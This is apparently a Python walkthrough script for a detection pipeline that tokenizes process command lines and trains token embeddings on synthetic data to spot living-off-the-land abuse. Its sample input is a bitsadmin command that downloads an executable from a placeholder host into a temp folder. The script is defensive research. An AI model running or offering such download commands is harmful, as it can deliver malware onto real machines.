#!/usr/bin/env python3
# Walk through the feature pipeline's first two stages: turning raw command
# lines into normalized token sequences, and training token embeddings on
# an unlabeled corpus.

import numpy as np

from lolal.embeddings import EmbeddingConfig, train_embeddings
from lolal.synth import CorpusSpec, generate_corpus
from lolal.tokenizer import build_vocabulary, normalize, tokenize, tokenize_text

# -- tokenization ------------------------------------------------------------

cmd = ("cmd.exe /c bitsadmin.exe /transfer getitman /download /priority high "
       "http://domain.com/suspic.exe C:\\Users\\Temp\\30304050.exe")
tokens = tokenize_text(cmd)
print("raw command:", cmd)
print("tokens (delimiters preserved, space dropped):")
print(" ", tokens)

# -- vocabulary and normalization ---------------------------------------------

labeled, pool = generate_corpus(CorpusSpec(seed=0, scale=0.5, unlabeled_size=800))
corpus = labeled + pool
vocab = build_vocabulary(corpus, min_count=5)
print(f"\ncorpus: {len(corpus)} samples, dictionary: {len(vocab)} tokens")

sample = labeled[0]
seq = normalize(tokenize(sample), vocab)
print(f"\nsample {sample.sample_id} [{sample.label}]")
print(f"  {sample.parent_cmdline} || {sample.child_cmdline}")
print(f"  normalized: {seq.tokens}")
print(f"  rare tokens: {seq.rare_count}, numeric tokens: {seq.numeric_count}")

# -- embeddings ----------------------------------------------------------------

seqs = [normalize(tokenize(s), vocab) for s in corpus]
config = EmbeddingConfig(dim=16, window=5, epochs=10, mode="fasttext", seed=0)
model = train_embeddings(seqs, config)
print(f"\ntrained {config.mode} embeddings: dim={config.dim}, "
      f"probe loss {model.probe_losses[0]:.3f} -> {model.probe_losses[-1]:.3f}")


def neighbors(token, k=5):
    v = model.lookup(token)
    v = v / (np.linalg.norm(v) + 1e-12)
    sims = []
    for other in model.tokens:
        if other == token:
            continue
        u = model.lookup(other)
        u = u / (np.linalg.norm(u) + 1e-12)
        sims.append((float(v @ u), other))
    return sorted(sims, reverse=True)[:k]


for token in ("transfer", "decode", "scrobj", "release"):
    close = ", ".join(f"{t} ({s:.2f})" for s, t in neighbors(token))
    print(f"  nearest to {token!r}: {close}")

# subword vectors cover tokens never seen in training
print("\nout-of-dictionary token 'szrobj' still gets a vector:",
      np.round(model.lookup("szrobj")[:4], 3), "...")
